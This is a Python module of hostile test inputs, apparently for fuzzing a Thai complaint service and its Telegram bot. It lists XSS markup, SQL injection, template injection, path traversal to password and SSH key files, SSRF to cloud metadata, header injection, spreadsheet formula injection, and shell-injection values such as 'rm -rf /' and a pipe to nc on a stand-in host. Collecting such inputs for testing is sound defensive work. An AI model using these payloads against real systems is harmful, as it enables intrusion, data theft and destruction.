"""What people with bad intentions, and telephones with bad luck, send in the place of words."""

from collections.abc import Mapping, Sequence
from functools import cache
from itertools import chain
from urllib.parse import quote_from_bytes

FOREIGN = "FOREIGN"
"""Stands for the tracking number of somebody else's matter."""
MARK = "zqx"
"""Part of every name of an element or attribute below; a page that has such a one was broken."""
PRODUCT = str(1337 * 1337)
"""What a template gives that was evaluated."""
LONGEST_ADDRESS = 1_500
"""Letters of an input that go into the line of a request."""

MARKUP = (
    "<script>alert('zqx')</script>",
    "<SCRIPT SRC=//zqx.example/x.js></SCRIPT>",
    "<script zqx type=module>import('//zqx.example')</script>",
    "<img src=x onerror=alert('zqx')>",
    "<img/src=`x`/onerror=alert`zqx`>",
    '"><img src=x zqx=1 onerror=alert(1)>',
    "' autofocus onfocus=alert('zqx') zqx='",
    '" autofocus onfocus=alert("zqx") zqx="',
    "` onmouseover=alert(`zqx`) `",
    "<svg onload=alert('zqx')>",
    "<svg><script>alert('zqx')</script></svg>",
    "<svg><animate onbegin=alert('zqx') attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text zqx>x</text></a></svg>",
    "<math><mtext><mglyph zqx><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>' zqx></iframe>",
    "<iframe src=javascript:alert('zqx')></iframe>",
    "<object data=javascript:alert('zqx')></object>",
    "<embed src=//zqx.example/x.swf>",
    "<details open ontoggle=alert('zqx')>",
    "<video><source onerror=alert('zqx')></video>",
    "<audio src onerror=alert('zqx')>",
    "<body onload=alert('zqx')>",
    "<input autofocus onfocus=alert('zqx')>",
    "<marquee onstart=alert('zqx')>zqx</marquee>",
    "<form zqx action=//zqx.example><input name=password></form>",
    "<button formaction=javascript:alert('zqx')>x</button>",
    "<base href=//zqx.example/>",
    "<meta http-equiv=refresh content='0;url=//zqx.example'>",
    "<link rel=stylesheet href=//zqx.example/x.css>",
    "<style>*{background:url(//zqx.example/x)}</style>",
    "<div style='background:url(//zqx.example/y)' zqx>x</div>",
    "</textarea><script>alert('zqx')</script>",
    "</title></style></script><zqx-element>",
    "</p></div></main></form><zqx-element>",
    "<!--><zqx-element>-->",
    "<![CDATA[<zqx-element>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><zqx>&e;</zqx>",
    "<template><zqx-element></template>",
    "<a href='javascript:alert(1)' zqx>x</a>",
    "<scr<script>ipt>alert('zqx')</scr</script>ipt>",
    "\u003cscript\u003ealert('zqx')\u003c/script\u003e \\u003czqx-element\\u003e",
    "&lt;zqx-element&gt; &#60;zqx-element&#62; &#x3c;zqx-element",
    "%3Czqx-element%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "＜zqx-element＞ ‹zqx-element› 〈zqx-element〉",
    "+ADw-script+AD4-alert('zqx')+ADw-/script+AD4-",
    "<zqx-element\x0conload=alert(1)>",
    "<\x00zqx-element><scr\x00ipt>alert(1)</scr\x00ipt>",
)
ADDRESSES = (
    "javascript:alert('zqx')",
    "JaVaScRiPt:alert('zqx')",
    "java\tscript:alert('zqx')",
    "\x01javascript:alert('zqx')",
    "javascript://zqx.example/%0aalert(1)",
    "data:text/html,<script>alert('zqx')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox('zqx')",
    'https://zqx.example/"onclick="alert(1)',
    "https://zqx.example/'><zqx-element>",
    "http://zqx.example/<script>alert(1)</script>",
    "www.zqx.example/?a=1&b=<zqx-element>",
    "//zqx.example/%2f..",
    "https://[::1",
    "http://user:pass@zqx.example:99999/",
    "https://tapon.go.th@zqx.example",
    'mailto:a@b?bcc=zqx@zqx.example"onclick=alert(1)',
    'a"onclick=alert(1)@zqx.example',
    "tel:1111;ext=<zqx-element>",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "http://169.254.169.254/latest/meta-data/",
)
QUERIES = (
    "'",
    "''",
    "' OR '1'='1",
    "' OR 1=1--",
    '" OR ""="',
    "'; DROP TABLE tickets;--",
    "1; DELETE FROM staff",
    "' UNION SELECT password FROM staff--",
    "1' AND (SELECT pg_sleep(9)) IS NULL--",
    "'||(SELECT sql FROM sqlite_master)||'",
    "\\'; SELECT 1;--",
    "%' OR 1=1 OR '%'='",
    "%",
    "_",
    "%%%%%%%%%%%%%%%%",
    "_____-_____-_",
    "[a-z]*",
    "70-0000_-%",
    "*",
    "a* OR b NEAR c",
    '"unbalanced',
    "NULL",
    "0x31303235",
    "$$;SELECT 1;$$",
    ":agency",
    "?1",
    "$1::bigint",
    '{"$ne": null}',
    "COPY staff TO PROGRAM 'id'",
    "(&(uid=*)(userPassword=*))",
)
TEMPLATES = (
    "{number}",
    "{0}",
    "{}",
    "{{{}}}",
    "{",
    "}",
    "{number",
    "{number!r:>100000000}",
    "{agency.__class__.__mro__}",
    "{self.__init__.__globals__}",
    "{{1337*1337}}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ visit.equipment.key }}",
    "{{ config.items() }}",
    "{% include '/etc/passwd' %}",
    "{# zqx #}",
    "%s",
    "%n%n%n%n",
    "%(password)s",
    "%1000000000d",
    "$PATH ${HOME} $(id) `id`",
    "%PATH% !PATH!",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "/etc/passwd\x00.jpg",
    "\x00",
    "a\x00b",
    "ก\x00ข",
    ".",
    "..",
    "/",
    "//",
    "~root/.ssh/id_rsa",
    "/proc/self/environ",
    "CON",
    "NUL.txt",
    "C:\\autoexec.bat",
    "\\\\zqx.example\\share",
    "file.jpg/.php",
    "shell.php%00.jpg",
    "; rm -rf / #",
    "| nc zqx.example 1",
    "-oProxyCommand=id",
)
HEADERS = (
    "x\r\nSet-Cookie: zqx=1",
    "x\nLocation: https://zqx.example",
    "x\r\n\r\n<zqx-element>",
    "x%0d%0aSet-Cookie:%20zqx=1",
    "x\u560d\u560aSet-Cookie: zqx=1",
    "x\u2028Set-Cookie: zqx=1\u2029",
    "x\x85y\x0bz\x0c",
    "\r",
    "\n" * 500,
    "GET / HTTP/1.1\r\nHost: zqx.example\r\n\r\n",
)
COMMANDS = (
    "/start",
    "/start@thamdai_test_bot zqx",
    "/menu",
    "/cancel\x00",
    "/link",
    "/link 0000 0000",
    "/link ๐๐๐๐๐๐๐๐",
    "/admin",
    "/ /",
    "/" * 4_000,
    "เมนู",
    "ยกเลิก",
    "เรื่องของฉัน",
    "ร้องเรียน",
    "คุยกับเจ้าหน้าที่",
    "English",
    "1",
    "๑",
    "99999999999999999999",
    FOREIGN,
)
BUTTONS = (
    "draft:send",
    "draft:skip:what",
    "draft:skip:preview",
    "draft:skip:privacy",
    "draft:skip:zqx",
    "draft:change:preview",
    "draft:privacy:named",
    "draft:privacy:officer",
    "draft:item:../../x",
    "draft:topic:zqx",
    "draft:spot:yes",
    f"draft:same:{FOREIGN}",
    "draft:back:back:back",
    "draft:drop:zqx",
    "draft:",
    f"mine:{FOREIGN}",
    f"mine:{FOREIGN}:add",
    f"mine:{FOREIGN}:withdraw-yes",
    f"mine:{FOREIGN}:zqx",
    "mine:' OR 1=1--",
    "mine:\x00",
    f"fixed:{FOREIGN}:no",
    f"fixed:{FOREIGN}:yes",
    "fixed:::",
    f"stars:{FOREIGN}:5",
    f"stars:{FOREIGN}:٥",
    "stars:x:-1",
    f"act:{FOREIGN}:accept",
    f"act:{FOREIGN}:decline",
    f"act:{FOREIGN}:ask",
    "act:accept",
    "report:question",
    "report:publication",
    "report:zqx",
    "a:zqx",
    "a:../../_default",
    "cat:p99999999999",
    "cat:zqx:p٩",
    "cat:p-1",
    "item:zqx",
    "lang:zqx",
    "lang:../en",
    "useful:zqx",
    "wrong:zqx",
    "handover:zqx",
    ":",
    ":" * 3_000,
    "__class__",
)
SIZES = (
    "ก" * 1_000_000,
    "a" * 60_000,
    " " * 50_000 + "a",
    "(" * 20_000,
    "1 " * 15_000,
    "https://" + "a." * 10_000,
    "a@" * 10_000,
    "0-" * 10_000,
    "๙" * 5_000,
    "ถนน" * 1_300,
    "[" * 15_000,
    '{"a":' * 3_000,
    "<b>" * 3_000,
    "&" * 3_000,
    "'" * 3_000,
    "\n" * 9_000 + "x",
    "x" * 4_001,
)
UNICODE = (
    "\ud800",
    "\udfff\ud800",
    "a\ud83dz",
    "\udcff\udcfe",
    "\udcc0\udcaf",
    "ข้อความ\udce0\udcb8",
    "\ufeff",
    "\ufffe\uffff",
    "\U0010ffff",
    "\u202e\u202dtxt.exe\u202c",
    "\u2066ก\u2067ข\u2069",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u00ad" * 300,
    "a" + "\u0301" * 3_000,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "ก" + "่" * 2_000,
    "กก็็็็็็็็็็็็็็็็็็็็ กิิิิิิิิิิ",
    "เ" * 3_000,
    "ำ" * 500,
    "่้๊๋์",
    "\uf70a\uf700ป\uf710",
    "\ue000\uf8ff\U000f0000",
    "น\u0e4d\u0e32 ปี\u0e32",
    "๏๚๛ฯลฯ ๆๆๆ",
    "👩‍👩‍👧‍👦" * 200,
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "👍🏽\u200d\ufe0f\u20e3",
    "🇹🇭" * 99,
    "\ufdfd" * 50,
    "ﷺ﷽𒐫𒈙⸻꧅",
    "ŧĦē ʇsǝʇ 𝕥𝕖𝕤𝕥 ⓣⓔⓢⓣ",
    "İıſKŸßﬀﬃ",
    "١٢٣ ৪৫ ०१ Ⅳ ½ ² ⑨",
    "\x1b[2J\x1b]0;zqx\x07",
    "\x7f\x80\x9f\x08\x08",
    "\u180e\u3164\u115f\uffa0",
    "\U0001d173\U0001d17a",
    "\u206a\u206f",
)
NUMBERS = (
    "0",
    "-1",
    "-0",
    "00",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "9" * 400,
    "9" * 5_000,
    "1e309",
    "NaN",
    "Infinity",
    "0x7fffffff",
    "1_000",
    "٣",
    "²",
    "Ⅳ",
    "1.0",
    "025691",
    "02569999",
    "999999999999",
    "2147483648",
    "true",
    "None",
    "undefined",
    "[object Object]",
    "a[]=1&a[x]=2",
    "__proto__[zqx]=1",
)
DAYS = (
    "0000-00-00",
    "9999-99",
    "9999-12",
    "0001-01",
    "10000-01-01",
    "31/02/2569",
    "1/1/0000",
    "31/12/9999",
    "2569-13-45",
    "๓๑/๑๒/๒๕๖๙",
    "-1/-1/-1",
    "29 กุมภาพันธ์ 2567x",
    "2026-11-21T25:61:61Z",
    "10542",
    "544",
    "1969-12-31T23:59:60+24:00",
)
FORMULAS = (
    '=HYPERLINK("http://zqx.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    '=1+1",=2+2\n=3+3',
    '";=1+1;"',
    "%0A=1+1",
    '=IMPORTXML(CONCAT("http://zqx.example/?",A1),"//a")',
)

GROUPS: Mapping[str, Sequence[str]] = {
    "markup": MARKUP,
    "addresses": ADDRESSES,
    "queries": QUERIES,
    "templates": TEMPLATES,
    "paths": PATHS,
    "headers": HEADERS,
    "commands": COMMANDS,
    "buttons": BUTTONS,
    "sizes": SIZES,
    "unicode": UNICODE,
    "numbers": NUMBERS,
    "days": DAYS,
    "formulas": FORMULAS,
}
INPUTS: Sequence[str] = tuple(chain.from_iterable(GROUPS.values()))
NASTY = (
    "\x00", "a\x00b", "ก\x00ข", "mine:\x00", "/cancel\x00", "\ud800", "a\ud83dz", "\udcff\udcfe",
    "/etc/passwd\x00.jpg", "02569999", "9" * 5_000, "\ufffe\uffff",
)  # fmt: skip
"""What PostgreSQL refuses, or what is more than a number holds."""


KNOWN = ("<img src=x onerror=", "{{1337*1337}}", "'; DROP TABLE")
"""By these it is seen that a page shows what was sent."""


def sample(size: int) -> list[str]:
    """So many of them, the nasty and the known ones and some of each group."""
    known = [text for text in INPUTS if any(word in text for word in KNOWN)]
    step = -(-len(INPUTS) // (size - len(NASTY)))
    found = [*NASTY, *known, *INPUTS[::step], *INPUTS[1::step]]
    return list(dict.fromkeys(found))[:size]


def addressed_to(number: str, inputs: Sequence[str]) -> list[str]:
    """The inputs with the number of somebody else's matter in them."""
    return [text.replace(FOREIGN, number) for text in inputs]


def octets(text: str) -> bytes:
    """The bytes of a text; half surrogates become such bytes as are no UTF-8."""
    try:
        return text.encode()
    except UnicodeEncodeError:
        return b"".join(map(_octets, text))


def _octets(letter: str) -> bytes:
    if "\udc80" <= letter <= "\udcff":
        return bytes([ord(letter) - 0xDC00])
    return letter.encode("utf-8", "surrogatepass")


@cache
def quoted(text: str) -> str:
    """The text as a part of an address, nothing of it left as it is."""
    return quote_from_bytes(octets(text), safe="").replace(".", "%2E")


def form_of(fields: Mapping[str, str]) -> bytes:
    """The body of an ordinary form."""
    pairs = (f"{name}={quoted(value)}" for name, value in fields.items())
    return "&".join(pairs).encode()


def cleaned(text: str) -> str:
    """The text as databases keep it."""
    return text.replace("\0", "\ufffd").encode("utf-8", "replace").decode()
